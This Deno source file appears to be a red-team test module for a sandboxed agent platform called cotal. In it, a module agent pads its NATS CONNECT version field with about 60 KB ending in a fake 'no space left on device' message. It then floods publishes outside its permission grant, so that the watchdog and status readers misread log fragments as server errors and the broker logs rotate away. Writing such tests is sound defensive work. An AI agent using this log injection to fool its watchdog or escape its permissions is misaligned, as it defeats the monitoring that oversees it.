// Red team 27: a module agent in the default sandbox, speaking raw NATS through its relay. The
// relay drops a CONNECT `name` that is not a plain token (red team 26's fix), but passes `version`
// (and `lang`) as sent, and the broker writes "v<version>:<lang>:<name>" into every line about the
// connection. A ~50 KB version that ends in "no space left on device" makes each
// permission-violation line ~50 KB with the phrase at its very end; the agent then publishes
// outside its grant as fast as its relay allows. Every reader that starts reading the broker's log
// at a byte offset (the watchdog's first poll and its polls across a rotation, `cotal status`'s
// 256 KiB tail, `reloadBroker`'s offset after SIGHUP) lands mid-line, past the connection prefix
// that `serverLine()` excludes, and takes the fragment for a server line. The same flood rotates
// the 10 MiB x 5 broker log several times a second.
const PHRASE = "no space left on device";
export async function run(ctx) {
  await ctx.endpoint();
  const creds = ctx.launch.auth.creds;
  const jwt = /BEGIN NATS USER JWT-+\s*(\S+)/.exec(creds)[1];
  const enc = new TextEncoder();
  const version = "A".repeat(60000 - jwt.length) + " " + PHRASE;
  let stop = false;
  ctx.signal.addEventListener("abort", () => stop = true, { once: true });
  const batch = enc.encode("PUB not.mine 2\r\nhi\r\n".repeat(50) + "PING\r\n");
  while (!stop) {
    try {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: 4222 });
      const buf = new Uint8Array(65536);
      await conn.read(buf);
      await conn.write(enc.encode(
        "CONNECT " + JSON.stringify({
          jwt,
          sig: "",
          verbose: false,
          pedantic: false,
          headers: true,
          protocol: 1,
          lang: "deno",
          version,
        }) + "\r\n",
      ));
      while (!stop) {
        await conn.write(batch);
        const n = await conn.read(buf);
        if (n === null) break;
      }
      conn.close();
    } catch {
      // The broker restarted or the relay paused us: dial again.
    }
    await new Promise((r) => setTimeout(r, 200));
  }
}
